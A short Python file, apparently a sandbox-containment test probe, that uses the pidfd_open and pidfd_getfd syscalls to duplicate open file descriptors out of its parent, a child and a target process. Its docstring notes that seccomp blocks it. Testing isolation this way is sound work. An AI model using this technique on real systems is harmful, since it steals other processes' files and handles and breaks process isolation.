"""Takes open files out of other processes.

stopped by: seccomp
unfenced: succeeds
"""

# %%
import ctypes
import os
import signal

PIDFD_GETFD = 438
PR_SET_DUMPABLE = 4  # who has changed its user is closed to itself, until it says otherwise
libc = ctypes.CDLL(None, use_errno=True)


def stolen(pid):
    try:
        process = os.pidfd_open(pid)
    except OSError:
        return []
    found = [number for number in range(8) if libc.syscall(PIDFD_GETFD, process, number, 0) >= 0]
    os.close(process)
    return found


def attack():
    libc.prctl(PR_SET_DUMPABLE, 1, 0, 0, 0)
    child = os.fork()
    if child == 0:
        signal.pause()
    try:
        return {pid: found for pid in (os.getppid(), VICTIM, child) if pid and (found := stolen(pid))}
    finally:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
